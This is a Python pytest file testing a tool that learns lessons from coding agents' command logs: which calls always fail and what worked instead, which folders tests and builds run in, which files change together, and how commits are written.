"""Lessons are learned from the calls of several sessions, with their counts, whoever's agent made the calls."""

from __future__ import annotations

import json
import random
import zlib
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any, cast

import pytest

from consolidator.jobs.consolidation.learning import redact_call
from consolidator.jobs.merging.warning_file import render_warnings
from consolidator.llm.redaction.redact import redact
from consolidator.memory.lessons import history
from consolidator.memory.lessons.before_call import concerns, correct
from consolidator.memory.lessons.commands import MAX_RULES
from consolidator.memory.lessons.habits import MAX_ALIKE, MAX_KEPT
from consolidator.memory.lessons.learning import learn_lessons
from consolidator.memory.lessons.lesson import Lesson
from consolidator.memory.lessons.segments import purpose_of, quote_pattern
from consolidator.memory.lessons.telling import answer_failure, warn_before, warning_words
from consolidator.memory.lessons.trace import Trace, TraceFold
from tests.unit.lessons.traced import HOME, START, CallLog

NO_WRAPPER = "error: unrecognized subcommand 'pnpm'"
UNFORMATTED = "src/cart.ts format ━━━━\n  × Formatter would have printed the following content:\n  1 │ - a"


def learn(count: int, write: Callable[[CallLog], object], agents: tuple[str, ...] = ("claude-code",)) -> list[Lesson]:
    logs = [CallLog(f"s{number}", agents[number % len(agents)]) for number in range(count)]
    for log in logs:
        write(log)
    return learn_lessons([log.trace() for log in logs])


def learn_in_turn(count: int, write: Callable[[CallLog], object]) -> list[Lesson]:
    """Learn from sessions of which each is a day after the one before."""
    logs = [CallLog(f"s{number}", start=START + timedelta(days=number)) for number in range(count)]
    for log in logs:
        write(log)
    return learn_lessons([log.trace() for log in logs])


def of_kind(lessons: list[Lesson], kind: str) -> list[Lesson]:
    return [lesson for lesson in lessons if lesson.kind == kind]


def drop_wrapper(log: CallLog) -> None:
    log.fail("wrap pnpm run test 2>&1 | tail -5", NO_WRAPPER).run("pnpm run test", "12 passed")
    log.run("wrap git status", "clean")


def test_a_wrapper_that_always_fails_is_told_with_what_works() -> None:
    lesson = of_kind(learn(3, drop_wrapper), "always_fails")[0]
    assert lesson.line == (
        "`wrap pnpm …` always fails (3 of 3: unrecognized subcommand 'pnpm'); without `wrap` it works: `pnpm run test`."
    )
    assert (lesson.sessions, lesson.failures, lesson.successes, lesson.warns) == (3, 3, 0, True)


def test_a_call_that_never_worked_is_warned_of_before_it_runs() -> None:
    lessons = learn(3, drop_wrapper)
    told = warn_before(lessons, "Bash", {"command": "cd /tmp && wrap pnpm run lint"})
    assert told is not None
    assert told.call == "pnpm run lint"
    assert warn_before(lessons, "Bash", {"command": "pnpm run lint"}) is None
    assert warn_before(lessons, "Bash", {"command": "wrap git log"}) is None
    assert warn_before(lessons, "Bash", {"command": "echo 'wrap pnpm run lint'"}) is None
    assert set(warning_words(told.lesson)) == {"wrap", "pnpm"}


@pytest.mark.parametrize(
    ("failing", "error"),
    [
        ("wrap pnpm run test", NO_WRAPPER),
        ("cat -A notes.txt", "cat: illegal option -- A"),
        ("git log --json", "error: unknown option '--json'"),
        ("gnutime pytest", "zsh: command not found: gnutime"),
        ("bd dolt push", "fatal: Could not read from remote repository."),
    ],
)
def test_the_hook_before_calls_warns_of_what_is_learned(failing: str, error: str) -> None:
    lessons = learn(3, lambda log: log.run("git log", "a").run("cat notes.txt", "a").fail(failing, error))
    (lesson,) = [each for each in lessons if each.kind == "always_fails"]
    body: dict[str, object] = {
        "tool_name": "Bash",
        "cwd": HOME,
        "tool_input": {"command": f"cd /tmp && {failing} | head"},
    }
    match = {name: value for name, value in lesson.match.items() if isinstance(value, str)}
    assert warn_before(lessons, "Bash", body["tool_input"]) is not None
    assert warning_words(lesson)
    assert all(word in failing for word in warning_words(lesson))
    assert concerns(match, HOME, body)


def test_one_success_is_enough_not_to_warn() -> None:
    logs = [CallLog(f"s{number}") for number in range(4)]
    for log in logs[:3]:
        drop_wrapper(log)
    logs[3].run("wrap pnpm run test", "12 passed")
    lessons = learn_lessons([log.trace() for log in logs])
    assert warn_before(lessons, "Bash", {"command": "wrap pnpm run test"}) is None


def test_red_tests_are_no_lesson_about_the_command() -> None:
    lessons = learn(4, lambda log: log.fail("pnpm run test", "AssertionError: expected 3 to be 4"))
    assert of_kind(lessons, "always_fails") == []


def test_a_flag_that_mostly_fails_is_told_after_it_failed_and_not_before() -> None:
    def write(log: CallLog) -> None:
        log.fail("cat -A notes.txt", "cat: illegal option -- A\nusage: cat [-belnstuv]").run("cat -et notes.txt", "a$")

    lessons = [*learn(3, write)]
    flag = of_kind(lessons, "always_fails")[0]
    assert "`cat -et` then worked" in flag.line
    told = answer_failure(lessons, "Bash", {"command": "cat -A other.txt"}, "cat: illegal option -- A")
    assert told is not None
    assert told.call == "cat -et"


def test_a_call_in_the_background_is_neither_a_success_nor_a_failure_until_it_ended() -> None:
    log = CallLog("s")
    log.start("pnpm run test")
    assert log.run("pnpm run lint").trace().calls[0].line == "pnpm run lint"
    lessons = learn(3, lambda log: log.start("pnpm run test"))
    assert of_kind(lessons, "command") == []


def test_the_end_of_a_call_in_the_background_gives_it_its_outcome_however_late() -> None:
    log = CallLog("s")
    well, badly, stopped = log.start("pnpm run test"), log.start("pnpm run build"), log.start("pnpm run dev")
    log.run("pnpm run lint").end(badly, "error", exit_code=255).end(stopped, "error", reason="aborted")
    log.end(well, exit_code=0).end(well, "error", exit_code=1)
    calls = {call.line: (call.ok, call.seconds) for call in log.trace().calls}
    assert {line: ok for line, (ok, _) in calls.items()} == {
        "pnpm run lint": True,
        "pnpm run build": False,
        "pnpm run dev": None,
        "pnpm run test": True,
    }
    assert calls["pnpm run test"][1] == 10.0
    for cut in range(len(log.events) + 1):
        assert log.trace(cut) == log.trace()


def test_a_file_that_is_not_there_is_no_fault_of_the_program() -> None:
    lessons = learn(
        4, lambda log: log.fail("jq . out.json", "jq: error: Could not open out.json: No such file or directory")
    )
    assert not any(lesson.match.get("kind") == "program" for lesson in lessons)
    lessons = learn(4, lambda log: log.fail("./gradlew build", "zsh: no such file or directory: ./gradlew"))
    assert [lesson.match["kind"] for lesson in lessons] == ["program"]


def test_a_call_that_works_without_an_option_is_told_with_the_values_of_its_others() -> None:
    def write(log: CallLog) -> None:
        log.fail("crane list --open --labels=late", "Error: unknown flag: --open")
        log.run("crane list --label=late --state open", "a")

    (lesson,) = of_kind(learn(2, write), "always_fails")
    assert lesson.instead == "crane list --label=late --state open"


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("git status -sb", "fatal: not a git repository (or any of the parent directories): .git"),
        ("docker exec -it web ls", "Error response from daemon: No such container: web"),
        ("cmake --build out", "CMake Error: The source directory '/src' does not exist."),
        ("mysql shop", "ERROR 1049 (42000): Unknown database 'shop'"),
    ],
)
def test_a_place_or_a_value_that_is_not_there_is_no_fault_of_an_option_or_a_program(line: str, error: str) -> None:
    assert of_kind(learn(4, lambda log: log.fail(line, error)), "always_fails") == []


def test_only_failures_that_blame_an_option_count() -> None:
    def write(log: CallLog) -> None:
        log.fail("docker exec -it shop ls", "Error response from daemon: No such container: shop")
        log.fail("docker exec -it web ls", "the input device is not a TTY.  If on a PC, try 'winpty'")
        log.run("docker exec web ls", "a")

    (lesson,) = of_kind(learn(2, write), "always_fails")
    assert lesson.line == (
        "`docker exec -it` always fails here (2 of 2: the input device is not a TTY); `docker exec` then worked."
    )


def test_what_works_now_is_not_told_to_fail() -> None:
    def write(log: CallLog) -> None:
        log.fail("cat -A notes.txt", "cat: illegal option -- A") if log.name < "s3" else log.run("cat -A notes.txt")

    assert of_kind(learn_in_turn(3, write), "always_fails")
    assert of_kind(learn_in_turn(4, write), "always_fails") == []


def test_a_folder_outside_that_is_not_there_is_told_to_nobody() -> None:
    error = "File does not exist."
    assert not of_kind(
        learn(3, lambda log: log.call("Read", {"file_path": "/home/bob/a.py"}, error, ok=False).read("b.py")),
        "always_fails",
    )


def test_a_failure_that_a_pipe_hides_counts() -> None:
    def write(log: CallLog) -> None:
        log.run("sed -n 1,4p notes.txt | cat -A | head -3", "cat: illegal option -- A")

    assert "3 of 3" in of_kind(learn(3, write), "always_fails")[0].line


def test_a_program_that_a_shell_does_not_find_failed_whatever_the_status() -> None:
    def write(log: CallLog) -> None:
        log.run("for f in a b; do jq . $f.json; done", "bash: line 1: jq: command not found\n" * 2)

    assert [lesson.key for lesson in of_kind(learn(3, write), "always_fails")] == ["program jq"]


def test_a_program_that_a_runner_cannot_start_is_told_with_the_one_that_brings_it() -> None:
    def write(log: CallLog) -> None:
        log.run("uv run ty check src/cart.py 2>&1 | tail -5", "error: Failed to spawn: `ty`\n  Caused by: No such file")
        log.run("ls").run("git fetch").run("git merge").run("uvx ty check . 2>&1 | tail -5", "All checks passed!")

    lessons = learn(2, write)
    [lesson] = of_kind(lessons, "always_fails")
    assert lesson.line == (
        "`uv run ty …` always fails (2 of 2: Failed to spawn); without `uv run` it works: `uvx ty check`."
    )
    told = warn_before(lessons, "Bash", {"command": "uv run ty check tests"})
    assert told is not None
    assert (told.text, told.call) == (lesson.line, "uvx ty check")
    assert correct(lesson.match, "uv run ty check tests") is None  # alone it is not there


def test_a_command_is_told_as_it_ran() -> None:
    def write(log: CallLog) -> None:
        log.fail("vitest run a.test.ts", "zsh:1: command not found: vitest")
        for name in "bcd":
            log.run(f"corepack pnpm exec vitest run {name}.test.ts", "1 passed")
        for name in "bcde":
            log.run(f"yarn exec --cwd={name * 90} vitest run {name}.test.ts", "1 passed")
        log.fail("corepack pnpm exec vitest run d.test.ts", "1 failed")

    assert of_kind(learn(2, write), "command")[0].line == "Tests: `corepack pnpm exec vitest …` (worked 14 of 18)."


def test_a_call_of_which_nobody_saw_the_exit_status_is_judged_by_what_it_says() -> None:
    def write(log: CallLog) -> None:
        for line, output in (
            ("jq . a.json", "bash: line 1: jq: command not found"),
            ("go test ./...", "ok  shop 0.2s"),
        ):
            log.run(line, output)
            log.events[-1] = replace(log.events[-1], data={**log.events[-1].data, "unseen": True})

    lessons = learn(3, write)
    assert of_kind(lessons, "command")[0].line == "Tests: `go test ./...`."
    assert [lesson.key for lesson in of_kind(lessons, "always_fails")] == ["program jq"]


def test_a_skill_that_is_not_there_is_told() -> None:
    lessons = learn(3, lambda log: log.call("Skill", {"skill": "commit"}, "Unknown skill: commit", ok=False))
    assert of_kind(lessons, "always_fails")[0].line == "There is no skill `commit` here (3 of 3 failed)."
    assert warn_before(lessons, "Skill", {"skill": "commit"}) is not None
    assert warn_before(lessons, "Skill", {"skill": "review"}) is None


@pytest.mark.parametrize(
    ("worked", "instead"),
    [("paint-tools:tint", "paint-tools:tint"), ("tints", None), ("review", None)],
)
def test_a_skill_of_the_same_name_in_a_plugin_that_worked_is_told_in_its_place(
    worked: str, instead: str | None
) -> None:
    def write(log: CallLog) -> None:
        log.call("Skill", {"skill": "tint"}, "Unknown skill: tint", ok=False)
        log.call("Skill", {"skill": worked}, "Launching skill")

    (lesson,) = of_kind(learn(3, write), "always_fails")
    assert lesson.instead == instead
    assert (f"`{instead}` then worked" in lesson.line) == (instead is not None)
    assert "Unknown skill: tint" in lesson.match["headline"]  # by which recall finds it


def test_what_git_add_says_blames_no_commit() -> None:
    missing = "fatal: pathspec 'web/cart.ts' did not match any files"
    log = CallLog("s0").fail("git add web/cart.ts && git commit -m cart", missing)
    (call,) = log.trace().calls
    assert [(segment.operation, segment.ok) for segment in call.segments] == [("git add", False), ("git commit", None)]


@pytest.mark.parametrize("tool", ["Bash", "Edit"])
def test_that_calls_are_cancelled_together_is_told_of_commands_alone(tool: str) -> None:
    def write(log: CallLog) -> None:
        arguments = {"command": "make test"} if tool == "Bash" else {"file_path": f"{HOME}/a.py"}
        log.call(tool, arguments, "Sibling tool call errored", ok=False, reason="cascade")

    assert bool(of_kind(learn(3, write), "harness")) == (tool == "Bash")


def test_commands_are_told_by_purpose_with_counts_and_directory() -> None:
    def write(log: CallLog) -> None:
        log.run("pnpm run test", "ok").run("pnpm run test", "ok").run("cd web && pnpm run css:build", "done")

    lines = [lesson.line for lesson in of_kind(learn(3, write), "command")]
    assert "Tests: `pnpm run test` (worked 6 of 6)." in lines
    assert "Build: `pnpm run css:build` in `web/` (worked 3 of 3)." in lines


def test_the_call_that_is_often_made_is_told_not_one_calls_own() -> None:
    def write(log: CallLog) -> None:
        log.run("go test ./...", "ok").run("go test ./cart/...", "ok").run("go test ./api/...", "ok")
        log.run("go test ./cart/... -run Sum", "ok")

    assert of_kind(learn(3, write), "command")[0].line == "Tests: `go test ./...` (worked 12 of 12)."


def test_the_only_call_that_was_ever_made_is_told_whole() -> None:
    logs = [CallLog(name).run("alembic upgrade head", "done") for name in ("s1", "s2")]
    assert [lesson.instead for lesson in learn_lessons([log.trace() for log in logs])] == ["alembic upgrade head"]


def test_files_that_often_change_alone_are_not_told() -> None:
    def write(count: int) -> Callable[[CallLog], object]:
        def changes(log: CallLog) -> None:
            log.edit("api/user.c").edit("web/user_form.html").run("git commit -m x")
            log.edit("z/other.c").run("git commit").edit("y/more.c").run("git commit").edit("x/a.c").run("git commit")
            if int(log.name[1:]) < count:
                log.edit("api/user.c").run("git commit -m u").edit("web/user_form.html").run("git commit -m f")

        return changes

    assert len(of_kind(learn(6, write(0)), "together")) == 1
    assert of_kind(learn(6, write(3)), "together") == []


def test_a_command_that_is_run_in_another_folder_is_answered_with_its_own() -> None:
    def write(log: CallLog) -> None:
        for _ in range(3):
            log.run("pnpm run lint", "ok")

    lessons = learn(2, write)
    told = answer_failure(lessons, "Bash", {"command": "pnpm run lint"}, 'error: Script not found "lint"', "web")
    assert told is not None
    assert told.text == "Run `pnpm run lint` in the project root."
    assert answer_failure(lessons, "Bash", {"command": "pnpm run lint"}, 'error: Script not found "lint"', "") is None


@pytest.mark.parametrize(
    ("command", "error", "is_told"),
    [
        ("vp typecheck", "error: Command 'typecheck' not found", True),
        ("npm run typecheck", 'npm error Missing script: "typecheck"', True),
        ("vp typecheck", "error: Cannot find module './cart'", False),
        ("ls typecheck", "ls: cannot access 'typecheck': No such file or directory", False),
        ("CI=1 pnpm typecheck", "error: Command 'typecheck' not found", False),  # it is called like that
    ],
)
def test_a_check_that_is_called_otherwise_here_is_answered_with_its_name(
    command: str, error: str, is_told: bool
) -> None:
    lessons = learn(3, lambda log: log.run("pnpm typecheck", "ok").run("pnpm typecheck", "ok"))
    told = answer_failure(lessons, "Bash", {"command": command}, error)
    assert (told is not None and told.call == "pnpm typecheck") is is_told


def modules(log: CallLog) -> None:
    """A session in which the tests work in two modules, and never in the root."""
    log.run("cd kiln && cargo test", "ok").run("cargo test", "ok", cwd=f"{HOME}/kiln")
    log.run(f"cd {HOME}/wheel && cargo test", "ok", cwd=f"{HOME}/kiln")
    log.fail("cargo test", "error: could not find `Cargo.toml` in `/home/ada/shop` or any parent directory")


def test_the_folders_in_which_a_program_works_are_told() -> None:
    tests = of_kind(learn(3, modules), "command")[0]
    assert tests.line == ("Tests: `cargo test` in `kiln/` or `wheel/` (worked 9 of 12).")
    told = answer_failure([tests], "Bash", {"command": "cargo test -q"}, "error: could not find `Cargo.toml`", "")
    assert told is not None
    assert (told.text, told.call) == ("Run `cargo test -q` in `kiln/` or `wheel/`.", None)
    assert answer_failure([tests], "Bash", {"command": "cargo test"}, "error: no such crate", "wheel") is None


@pytest.mark.parametrize(
    "command", [f"cd {HOME}/web && pytest", "pytest web/test_cart.py", "pytest ./web/test_cart.py", "cd web && pytest"]
)
def test_a_call_in_its_folder_or_with_paths_from_above_is_not_sent_there(command: str) -> None:
    lessons = learn(3, lambda log: log.run("cd web && pytest", "ok").run("pytest -q", "ok", cwd=f"{HOME}/web"))
    error = "ERROR: file or directory not found: test_cart.py"
    assert answer_failure(lessons, "Bash", {"command": command}, error, "", HOME) is None
    told = answer_failure(lessons, "Bash", {"command": "pytest test_cart.py"}, error, "", HOME)
    assert told is not None
    assert told.text == "Run `pytest test_cart.py` in `web/`."
    # In such a folder of another checkout it is where it is to be run.
    assert (
        answer_failure(lessons, "Bash", {"command": "pytest test_cart.py"}, error, "/home/ada/other/web", HOME) is None
    )


def test_what_ran_in_a_worktree_beside_the_project_ran_in_the_project() -> None:
    lessons = learn(3, lambda log: log.run("pnpm run lint", "ok", cwd=f"{HOME}__worktrees/fix-1"))
    assert [lesson.line for lesson in of_kind(lessons, "command")] == ["Lint: `pnpm run lint` (worked 3 of 3)."]


def test_a_folder_on_a_drive_is_learned_however_each_shell_writes_it() -> None:
    root, error = "D:\\kiln", "pattern ./...: directory prefix . does not contain main module"

    def write(name: str) -> Trace:
        log = CallLog(name, home=root).fail("go build ./...", error, cwd=root)
        log.run("go build ./...", cwd=f"{root}\\src").run("cd /d/kiln/src && go build ./...", cwd=root)
        return log.trace()

    build = of_kind(learn_lessons([write(str(n)) for n in range(3)]), "command")[0]
    assert build.line == "Build: `go build ./...` in `src/` (worked 6 of 9)."
    told = answer_failure([build], "Bash", {"command": "cd /d/kiln && go build ./..."}, error, "src", "D:/kiln")
    assert told is not None
    assert told.text == "Run `go build ./...` in `src/`."


def test_a_program_that_works_in_the_root_is_told_without_folders() -> None:
    def write(log: CallLog) -> None:
        log.run("cargo test", "ok").run("cd kiln && cargo test", "ok").run("cd wheel && cargo test", "ok")

    assert of_kind(learn(3, write), "command")[0].line == "Tests: `cargo test` (worked 9 of 9)."


def test_where_the_folder_does_not_matter_or_changes_no_home_is_lost() -> None:
    def write(log: CallLog) -> None:
        log.run("cd web && pytest", "ok").run(f"pytest {HOME}/web/test_cart.py", "ok")
        log.run("ls && cd web && pytest", "ok").run("pytest --rootdir web", "ok", cwd="/tmp")

    assert of_kind(learn(3, write), "command")[0].line == "Tests: `pytest` in `web/` (worked 12 of 12)."


def test_a_path_that_begins_with_its_home_is_given_as_seen_from_there() -> None:
    def write(log: CallLog) -> None:
        for name in "abc":
            log.run(f"cd {HOME}/api/core && go test ./{name}/...", "ok").run(f"cd {HOME}")

    lessons = learn(3, write)
    error = "FAIL\t./api/core/... [setup failed]\npattern ./api/core/...: main module does not contain main package"
    told = answer_failure(lessons, "Bash", {"command": "go test ./api/core/... -run A"}, error, "", HOME)
    assert told is not None
    assert (told.text, told.call) == ("Run `go test ./... -run A` in `api/core/`.", "go test ./... -run A")
    other = "FAIL\t./x/... [setup failed]\npattern ./x/...: main module does not contain main package"
    assert answer_failure(lessons, "Bash", {"command": "go test ./api/core/... -run A"}, other, "", HOME) is None
    assert (
        answer_failure(lessons, "Bash", {"command": "go test ./api/core/... -run A"}, error, "api/core", HOME) is None
    )


def test_a_call_runs_where_the_one_before_it_left_the_shell_until_the_log_says_otherwise() -> None:
    log = CallLog("s1").run("cd web && make a").run("make b").fail("cd x && make c", "1 problem").run("make d")
    log.run("(cd lib && make e)").run("make f").run("cd /tmp && make g", "\nShell cwd was reset to /home/ada/shop")
    log.run("make h").run("cd web", cwd=f"{HOME}/lib").run("make i", cwd=f"{HOME}/lib").run("make j", cwd=f"{HOME}/app")
    for cuts in ((), (2, 5, 8, 11), tuple(range(1, 22))):
        places = [str(call.directory).removeprefix(f"{HOME}/") for call in log.trace(*cuts).calls]
        assert places == [
            *("web", "web", "web/x", "web", "web/lib", "web", "/tmp", HOME, "lib", "lib/web", "app"),
        ]


def test_a_call_in_the_background_does_not_move_the_shell() -> None:
    log = CallLog("s1")
    started = log.start("cd web && npm run dev")
    log.run("make a").run("cd app && make b").end(started, exit_code=0)
    log.run("make c").run("cd web && npm run dev >log 2>&1 &").run("make d")
    places = {call.segments[-1].call: str(call.directory).removeprefix(f"{HOME}/") for call in log.trace().calls}
    assert [places[f"make {name}"] for name in "abcd"] == [HOME, "app", "app", "app"]


def write_kept_folder(log: CallLog) -> None:
    log.run("cd web && make").fail("cd web && make b", "bash: line 1: cd: web: No such file or directory").run("make b")
    log.fail("git add web/a.ts", "fatal: pathspec 'web/a.ts' did not match any files")
    log.run(f"cd {HOME} && git add web/a.ts")


def test_a_call_that_the_kept_folder_misled_is_answered_by_where_the_shell_is() -> None:
    lessons = learn(1, write_kept_folder)
    (lesson,) = of_kind(lessons, "harness")
    assert (lesson.failures, lesson.starts) == (2, False)
    assert of_kind(learn(3, write_kept_folder), "harness")[0].starts
    no_folder = "bash: line 1: cd: web: No such file or directory"
    told = answer_failure(lessons, "Bash", {"command": "cd web && make c"}, no_folder, "web", HOME)
    assert told is not None
    assert (told.text, told.call) == ("The shell is in `web/` already: leave out the `cd`.", "make c")
    looks = answer_failure(lessons, "Bash", {"command": "cd web && grep -c x y.ts"}, no_folder, "web", HOME)
    assert looks is not None
    assert looks.call == "grep -c x y.ts"
    no_file = "fatal: pathspec 'web/b.ts' did not match any files"
    told = answer_failure(lessons, "Bash", {"command": "git add web/b.ts"}, no_file, "web", HOME)
    assert told is not None
    assert told.call == f"cd {HOME} && git add web/b.ts"
    assert answer_failure(lessons, "Bash", {"command": "cd web && make c"}, no_folder, "", HOME) is None
    assert answer_failure(lessons, "Bash", {"command": "git add b.ts"}, no_file, "web", HOME) is None


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("grep -n total web/cart.ts", "grep: web/cart.ts: No such file or directory"),
        ("ls web/ | head", "ls: cannot access 'web/': No such file or directory"),
        (
            "git diff --stat web/cart.ts",
            "fatal: ambiguous argument 'web/cart.ts': unknown revision or path not in the working tree.",
        ),
    ],
)
def test_what_only_looks_is_told_where_the_shell_is(line: str, error: str) -> None:
    lessons = learn(1, lambda log: log.run("cd web && make").fail(line, error))
    (lesson,) = of_kind(lessons, "harness")
    told = answer_failure([lesson], "Bash", {"command": line}, f"Exit code 1\n{error}", "web", HOME)
    assert told is not None
    assert told.call == f"cd {HOME} && {line}"
    assert answer_failure([lesson], "Bash", {"command": line}, error.replace("web/", "app/"), "web", HOME) is None
    assert answer_failure([lesson], "Bash", {"command": line}, error, "", HOME) is None


@pytest.mark.parametrize("path", ["web", "web/cart.ts"])
def test_a_search_is_told_where_the_shell_is(path: str) -> None:
    error = f"<tool_use_error>Path does not exist: {path}. Note: you are in {HOME}/web.</tool_use_error>"
    search = {"pattern": "total", "path": path}
    lessons = learn(1, lambda log: log.run("cd web && make").call("Grep", search, error, ok=False))
    (lesson,) = of_kind(lessons, "harness")
    told = answer_failure([lesson], "Grep", search, error, "web", HOME)
    assert told is not None
    assert told.call == f"{HOME}/{path}"
    assert answer_failure([lesson], "Grep", {"pattern": "x", "path": f"{HOME}/x"}, error, "web", HOME) is None


def test_a_path_of_the_project_is_looked_for_from_its_root() -> None:
    def write(log: CallLog) -> None:
        log.read("deploy/steps.yml").read("web/app/view.ts")

    def answer(line: str, path: str) -> str | None:
        error = f"cp: cannot stat {path}: No such file or directory"
        told = answer_failure(learn(3, write), "Bash", {"command": line}, error, "web", HOME)
        return None if told is None else told.call

    assert answer("cp -r /tmp/x deploy/steps.yml", "deploy/steps.yml") == f"cd {HOME} && cp -r /tmp/x deploy/steps.yml"
    assert answer("cp -r /tmp/x app/view.ts", "app/view.ts") == "web/app/view.ts"  # it is gone: not from another folder
    assert answer("cp -r /tmp/x deploy/steps.yml", "deploy/other.yml") is None
    assert answer("cp deploy/other.yml deploy/", "deploy/other.yml") is None  # of the folder nothing is said
    assert answer("cp steps.yml deploy/", f"'{HOME}/web/deploy'") == f"cd {HOME} && cp steps.yml deploy/"


def test_a_shell_of_another_client_starts_anew_for_each_call() -> None:
    log = CallLog("s1").call("shell", {"command": "cd web && make"}).call("shell", {"command": "make"})
    assert [call.directory for call in log.trace().calls] == [f"{HOME}/web", HOME]


def test_a_failed_change_of_directory_blames_no_program() -> None:
    log = CallLog("s").fail("cd web && pnpm run test", "(eval):cd:1: no such file or directory: web")
    assert [segment.ok for segment in log.trace().calls[0].segments] == [None]


def change_apart(log: CallLog, *files: str, units: str = "abcdef") -> None:
    """Edit files for one commit, and others for a commit each."""
    for file in files:
        log.edit(file)
    log.run("git commit -m x")
    for other in units:
        log.edit(f"{other}/x{log.name[1:]}.c").run("git commit -m y")


@pytest.mark.parametrize("files", [("cmd/copy.go", "cmd/flags.go"), ("api/Dockerfile", "api/Makefile")])
def test_code_of_one_folder_is_told_where_each_file_goes_with_the_other(files: tuple[str, str]) -> None:
    lessons = learn(4, lambda log: change_apart(log, *files))
    assert [lesson.key for lesson in of_kind(lessons, "together")] == [" ".join(files)]


def test_a_file_that_changes_with_everything_is_told_with_none_of_its_kind() -> None:
    def write(log: CallLog) -> None:
        change_apart(log, "core/engine.go", "cmd/copy.go")
        for name in "pq":
            log.edit("core/engine.go").edit(f"{name}/{log.name}.go").run("git commit -m z")

    assert of_kind(learn(6, write), "together") == []


def test_a_folder_in_which_one_file_changes_is_told_by_that_file() -> None:
    lessons = learn(5, lambda log: change_apart(log, "api/schema.sql", "web/form.ts"))
    assert [lesson.key for lesson in of_kind(lessons, "together")] == ["api/schema.sql web/form.ts"]


def test_a_file_of_a_folder_above_is_told_with_the_files_that_need_it() -> None:
    lessons = learn(5, lambda log: change_apart(log, "db/migrate.go", f"db/steps/{log.name}.up.sql"))
    assert [lesson.key for lesson in of_kind(lessons, "together")] == ["db/migrate.go db/steps/*.sql"]


def test_a_file_is_told_with_the_documents_of_a_folder() -> None:
    lessons = learn(5, lambda log: change_apart(log, "web/form.ts", f"prompts/mail{log.name}.md"))
    assert [lesson.key for lesson in of_kind(lessons, "together")] == ["prompts/*.md web/form.ts"]


def test_a_file_beside_one_of_its_name_is_no_news() -> None:
    lessons = learn(5, lambda log: change_apart(log, "src/queue.h", "src/queue.cpp"))
    assert of_kind(lessons, "together") == []


def test_a_document_that_most_sessions_change_is_told() -> None:
    lessons = learn(4, lambda log: log.edit(f"src/{log.name}.ts").run("git commit -m a").edit("plan/STATUS.yaml"))
    assert [lesson.line for lesson in of_kind(lessons, "together")] == [
        "`plan/STATUS.yaml` is kept up: changed beside other files (4 of 4 sessions)."
    ]
    assert of_kind(learn(4, lambda log: log.edit("plan/STATUS.yaml")), "together") == []  # it is the work

    def write(log: CallLog) -> None:
        for number in range(MAX_KEPT + 1):
            log.edit(f"docs/p{number}.md").run("git commit -m 'Say it'", "done")

    assert len(of_kind(learn(4, write), "together")) == MAX_KEPT


@pytest.mark.parametrize(
    ("source", "test", "shown"),
    [
        ("src/shop/part{}.ts", "src/test/shop/part{}.test.ts", "`src/shop/part2.ts` has `src/test/shop/part2.test.ts`"),
        ("api/part{}.py", "tests/test_part{}.py", "`api/part2.py` has `tests/test_part2.py`"),
        ("web/part{}.tsx", "web/__tests__/part{}.spec.tsx", "`web/part2.tsx` has `web/__tests__/part2.spec.tsx`"),
        ("web/part{}.tsx", "web/part{}.test.tsx", "`web/part2.tsx` has `part2.test.tsx` beside it"),
        ("pkg/part{}.go", "pkg/part{}_test.go", None),  # as the language has it
        ("docs/part{}.md", "tests/test_part{}.py", None),  # it tests something else
    ],
)
def test_it_is_told_where_tests_lie(source: str, test: str, shown: str | None) -> None:
    def write(log: CallLog) -> None:
        log.read(source.format(log.name[1:])).edit(test.format(log.name[1:]))

    lines = [lesson.line for lesson in of_kind(learn(3, write), "together")]
    assert lines == ([f"Tests lie like this: {shown} (3 files, 3 sessions)."] if shown else [])
    assert of_kind(learn(2, write), "together") == []


def test_a_test_of_a_name_that_a_hundred_folders_have_tells_no_place() -> None:
    def write(log: CallLog) -> None:
        for number in range(MAX_ALIKE + 1):
            log.read(f"web/p{number}/page.tsx").edit(f"web/p{number}/page.test.tsx")

    assert of_kind(learn(2, write), "together") == []


@pytest.mark.parametrize(
    ("calls", "line"),
    [
        (
            [
                "git add a && git commit -m \"$(cat <<'EOF'\nfeat(web): x\nEOF\n)\"",
                "git commit -am 'fix(api): mend it'",
            ],
            "`type(scope): …`, mostly `feat`, `fix` (6 of 6; rarely pushed at once)",
        ),
        (
            ["git checkout -b fix/cart", "git commit -m 'docs: say so' && git push"],
            "`type: …`, mostly `docs` (3 of 3; mostly pushed at once; branches are called `fix/…`)",
        ),
        (["git commit -F - <<'EOF'\nSHOP-12 Add the cart\nEOF"], "`SHOP-…` (3 of 3; rarely pushed at once)"),
        (["git commit -m 'Add it: at last'"], "a plain subject without `type:` (3 of 3; rarely pushed at once)"),
        (["git commit -m 'feat: add it'", "git commit -m 'Mend the cart'"], None),
        (["git commit -F /tmp/message && gh pr create -t 'feat: add it'"], None),
        (["git commit --amend --no-edit"], None),
        (["git -C ../site commit -m 'Add the page'", "cd /opt/site && git commit -m 'Add the page'"], None),
        (
            [f"git -C {HOME} commit -m 'Add the cart'"],
            "a plain subject without `type:` (3 of 3; rarely pushed at once)",
        ),
        (
            ["git commit -m 'take-every-key: now and here'"],
            "a plain subject without `type:` (3 of 3; rarely pushed at once)",
        ),
    ],
)
def test_it_is_told_how_commits_are_made(calls: list[str], line: str | None) -> None:
    def write(log: CallLog) -> None:
        for call in calls:
            log.run(call, "done")

    lessons = [lesson.line for lesson in of_kind(learn(3, write), "constant") if lesson.key == "commits"]
    assert lessons == ([f"Commits here: {line}."] if line else [])
    assert [lesson for lesson in of_kind(learn(2, write), "constant") if lesson.key == "commits"] == []


@pytest.mark.parametrize(("pushing", "told"), [(1, "; rarely pushed"), (3, ""), (4, "; mostly pushed")])
def test_that_commits_are_pushed_is_told_of_four_sessions_in_five(pushing: int, told: str) -> None:
    def write(log: CallLog) -> None:
        log.run("git commit -m 'Add the cart'").run("git push" if int(log.name[1:]) < pushing else "git log")

    lessons = [lesson for lesson in of_kind(learn(5, write), "constant") if lesson.key == "commits"]
    assert [f"(5 of 5{told}" in lesson.line for lesson in lessons] == [True]


def lint_then_fix(log: CallLog) -> None:
    log.edit("src/cart.ts").fail("pnpm run lint", UNFORMATTED).run("pnpm run lint:fix", "Fixed 1 file")
    log.run("pnpm run lint", "ok")


def test_a_check_that_fails_is_answered_with_the_command_that_mends_it() -> None:
    lessons, lint = learn(3, lint_then_fix), {"command": "pnpm run lint"}
    told = answer_failure(lessons, "Bash", lint, UNFORMATTED)
    assert told is not None
